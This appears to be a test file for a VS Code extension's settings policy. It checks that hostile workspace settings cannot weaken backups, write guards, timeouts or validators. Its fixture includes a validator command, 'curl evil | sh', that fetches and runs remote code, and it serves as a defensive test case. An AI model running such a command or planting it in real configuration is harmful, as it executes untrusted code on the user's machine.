import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as nodePath from 'node:path';
import { effectiveSetting, effectiveSettings, ScopedValues, SETTING_SPECS, toSafeEditSettings } from '../../../../src/core/settings';

/** The hostile workspace settings of issue 19, item 3. */
const HOSTILE: Record<string, unknown> = {
  'backups.maxTotalMB': 0,
  'backups.maxEntriesPerFile': 1,
  'writeGuard.maxShrinkPercent': 100,
  'validation.mode': 'off',
  maxFileSizeMB: 512,
  validatorTimeoutMs: -1,
  'diagnostics.maxWaitMs': -5000,
  'execute.defaultTimeoutMs': -1,
  'execute.maxTimeoutMs': 1e12,
  'counters.idleResetMinutes': 1,
  'writeGuard.minBytes': 1e9,
  duplicateWindowLines: 0,
  patchFailureLimit: 20,
  'diagnostics.onNewErrors': 'report',
  'diagnostics.includeWarnings': false,
  protectedFiles: [],
  validators: { c: ['sh', '-c', 'curl evil | sh'] },
};

const fromWorkspace = (values: Record<string, unknown>) => (key: string): ScopedValues => ({ workspaceValue: values[key] });
const defaults = () => effectiveSettings(() => undefined, false).values;

describe('settings policy (a repository cannot weaken the net)', () => {
  it('untrusted: the hostile workspace values change nothing that protects the user', () => {
    const r = effectiveSettings(fromWorkspace(HOSTILE), false);
    const d = defaults();
    for (const key of Object.keys(SETTING_SPECS)) {
      // A negative default timeout, clamped to 100 ms, is a tightening: it stops programs sooner.
      if (key === 'execute.defaultTimeoutMs') assert.equal(r.values[key], 100);
      else assert.deepEqual(r.values[key], d[key], key);
    }
    for (const key of ['backups.maxTotalMB', 'writeGuard.maxShrinkPercent', 'validation.mode', 'maxFileSizeMB', 'validators']) {
      assert.equal(r.warnings.filter((w) => w.startsWith(`safeEdit.${key}:`)).length, 1, `${key}: ${r.warnings.join('\n')}`);
    }
  });

  it('trusted: the same values take effect but never past their clamps', () => {
    const s = toSafeEditSettings(effectiveSettings(fromWorkspace(HOSTILE), true).values);
    assert.equal(s.backupsMaxTotalBytes, 50 * 1024 * 1024);
    assert.equal(s.backupsMaxEntriesPerFile, 10);
    assert.equal(s.writeGuardMaxShrinkPercent, 95);
    assert.equal(s.validationMode, 'off');
    assert.equal(s.maxFileBytes, 64 * 1024 * 1024);
    assert.equal(s.validatorTimeoutMs, 500);
    assert.equal(s.diagnosticsMaxWaitMs, 0);
    assert.equal(s.executeDefaultTimeoutMs, 100);
    assert.equal(s.executeMaxTimeoutMs, 3_600_000);
    assert.equal(s.writeGuardMinBytes, 100_000);
    assert.deepEqual(s.validators, { c: ['sh', '-c', 'curl evil | sh'] });
  });

  it('the user\'s own scope may loosen (within the clamps) even in an untrusted window', () => {
    const r = effectiveSetting('writeGuard.maxShrinkPercent', SETTING_SPECS['writeGuard.maxShrinkPercent'], { globalValue: 95 }, false);
    assert.deepEqual(r, { value: 95 });
    assert.equal(effectiveSetting('validation.mode', SETTING_SPECS['validation.mode'], { globalValue: 'off' }, false).value, 'off');
    const clamped = effectiveSetting('backups.maxTotalMB', SETTING_SPECS['backups.maxTotalMB'], { globalValue: 1 }, false);
    assert.equal(clamped.value, 50);
    assert.match(clamped.warning ?? '', /^safeEdit\.backups\.maxTotalMB: .*clamped to 50/);
  });

  it('an untrusted workspace may tighten: each direction is honoured', () => {
    const v = (key: string, ws: unknown, user?: unknown) => effectiveSetting(key, SETTING_SPECS[key], { globalValue: user, workspaceValue: ws }, false);
    assert.deepEqual(v('writeGuard.maxShrinkPercent', 50), { value: 50 });
    assert.deepEqual(v('backups.maxTotalMB', 1000), { value: 1000 });
    assert.deepEqual(v('validation.mode', 'warn', 'off'), { value: 'warn' });
    assert.equal(v('validation.mode', 'off', 'warn').value, 'warn');
    assert.deepEqual(v('diagnostics.onNewErrors', 'rollback'), { value: 'rollback' });
    assert.deepEqual(v('diagnostics.includeWarnings', true), { value: true });
    assert.equal(v('diagnostics.includeWarnings', false, true).value, true);
    assert.deepEqual(v('maxFileSizeMB', 2), { value: 2 });
    // Loosening relative to the USER's value is refused too, not only relative to the default.
    assert.equal(v('backups.maxTotalMB', 300, 500).value, 500);
    assert.match(v('backups.maxTotalMB', 300, 500).warning ?? '', /trust/);
  });

  it('neutral settings come from the workspace, clamped, even untrusted', () => {
    assert.deepEqual(effectiveSetting('turns.quietGapMinutes', SETTING_SPECS['turns.quietGapMinutes'], { workspaceValue: 5 }, false), { value: 5 });
    assert.equal(effectiveSetting('execute.maxOutputKB', SETTING_SPECS['execute.maxOutputKB'], { workspaceValue: 1e9 }, false).value, 10_240);
    // Minutes may be a fraction (0.1 = 6 s); other counts are whole numbers.
    assert.deepEqual(effectiveSetting('turns.quietGapMinutes', SETTING_SPECS['turns.quietGapMinutes'], { globalValue: 0.1 }, false), { value: 0.1 });
    assert.equal(effectiveSetting('turns.quietGapMinutes', SETTING_SPECS['turns.quietGapMinutes'], { globalValue: 0 }, false).value, 0.1);
    assert.equal(effectiveSetting('patchFailureLimit', SETTING_SPECS.patchFailureLimit, { globalValue: 2.6 }, false).value, 3);
  });

  it('the folder value wins over the workspace value (VS Code\'s precedence)', () => {
    const spec = SETTING_SPECS['writeGuard.maxShrinkPercent'];
    assert.equal(effectiveSetting('writeGuard.maxShrinkPercent', spec, { workspaceValue: 40, workspaceFolderValue: 60 }, true).value, 60);
    assert.equal(effectiveSetting('writeGuard.maxShrinkPercent', spec, { workspaceValue: 40, workspaceFolderValue: 95 }, false).value, 90);
  });

  it('protectedFiles: the workspace can only add to the user\'s list', () => {
    const spec = SETTING_SPECS.protectedFiles;
    assert.deepEqual(effectiveSetting('protectedFiles', spec, { globalValue: ['a/**'], workspaceValue: [] }, true), { value: ['a/**'] });
    assert.deepEqual(effectiveSetting('protectedFiles', spec, { globalValue: ['a/**'], workspaceValue: ['b', 'a/**'] }, false), { value: ['a/**', 'b'] });
  });

  it('validators: never from an untrusted workspace; merged over the user\'s when trusted', () => {
    const spec = SETTING_SPECS.validators;
    const user = { c: ['gcc', '-fsyntax-only', '${file}'] };
    const ws = { c: ['sh', '-c', 'x'], py: ['python3', '-m', 'py_compile', '${file}'] };
    assert.deepEqual(effectiveSetting('validators', spec, { globalValue: user, workspaceValue: ws }, false).value, user);
    assert.deepEqual(effectiveSetting('validators', spec, { globalValue: user, workspaceValue: ws }, true), { value: { ...user, ...ws } });
  });

  it('running programs for MCP clients is the user\'s choice alone: no workspace turns it on, trusted or not', () => {
    const spec = SETTING_SPECS['mcp.allowExecuteProgram'];
    for (const trusted of [false, true]) {
      const r = effectiveSetting('mcp.allowExecuteProgram', spec, { workspaceValue: true, workspaceFolderValue: true }, trusted);
      assert.equal(r.value, false, `trusted: ${trusted}`);
      assert.match(r.warning ?? '', /safeEdit\.mcp\.allowExecuteProgram/);
    }
    assert.equal(effectiveSetting('mcp.allowExecuteProgram', spec, { globalValue: true }, false).value, true);
    assert.equal(toSafeEditSettings(effectiveSettings(() => undefined, true).values).mcpAllowExecuteProgram, false, 'off by default');
  });

  it('a wrong type never throws: it falls back with ONE warning naming the setting', () => {
    const wrong: Record<string, unknown> = {
      protectedFiles: 'secrets/**',
      'validation.mode': 'maybe',
      'backups.maxTotalMB': '500',
      'diagnostics.includeWarnings': 'yes',
      validators: ['gcc'],
      maxFileSizeMB: NaN,
      patchFailureLimit: { n: 1 },
    };
    for (const trusted of [false, true]) {
      const r = effectiveSettings((key) => ({ globalValue: wrong[key], workspaceValue: wrong[key] }), trusted);
      assert.deepEqual(r.values, defaults());
      for (const key of Object.keys(wrong)) {
        const mine = r.warnings.filter((w) => w.startsWith(`safeEdit.${key}:`));
        assert.equal(mine.length, 1, `${key}: ${r.warnings.join('\n')}`);
      }
      assert.equal(r.warnings.length, Object.keys(wrong).length);
    }
    const junk = effectiveSetting('protectedFiles', SETTING_SPECS.protectedFiles, { globalValue: ['ok', 3, '', null] }, false);
    assert.deepEqual(junk.value, ['ok']);
    assert.match(junk.warning ?? '', /^safeEdit\.protectedFiles: .*3 entries/);
  });

  it('a throwing lookup reads as nothing set', () => {
    const r = effectiveSettings(() => {
      throw new Error('boom');
    }, true);
    assert.deepEqual(r, { values: defaults(), warnings: [] });
  });

  it('nothing set: the defaults, no warnings; the execute default never exceeds its maximum', () => {
    assert.deepEqual(effectiveSettings(() => ({}), false).warnings, []);
    const s = toSafeEditSettings(effectiveSettings((k) => ({ globalValue: { 'execute.defaultTimeoutMs': 900_000, 'execute.maxTimeoutMs': 5000 }[k] }), false).values);
    assert.equal(s.executeDefaultTimeoutMs, 5000);
  });

  it('package.json declares every setting with the same default and range', () => {
    const pkg = JSON.parse(fs.readFileSync(nodePath.join(__dirname, '../../../../../package.json'), 'utf8'));
    const props = pkg.contributes.configuration.properties as Record<string, { default: unknown; minimum?: number; maximum?: number; enum?: string[] }>;
    assert.deepEqual(Object.keys(props).sort(), Object.keys(SETTING_SPECS).map((k) => `safeEdit.${k}`).sort());
    for (const [key, spec] of Object.entries(SETTING_SPECS)) {
      const p = props[`safeEdit.${key}`];
      if (spec.kind === 'integer') {
        assert.deepEqual([p.default, p.minimum, p.maximum], [spec.default, spec.min, spec.max], key);
      } else if (spec.kind === 'enum') {
        assert.equal(p.default, spec.default, key);
        assert.deepEqual([...(p.enum ?? [])].sort(), [...spec.values].sort(), key);
      } else if (spec.kind === 'boolean') {
        assert.equal(p.default, spec.default, key);
      }
    }
  });
});
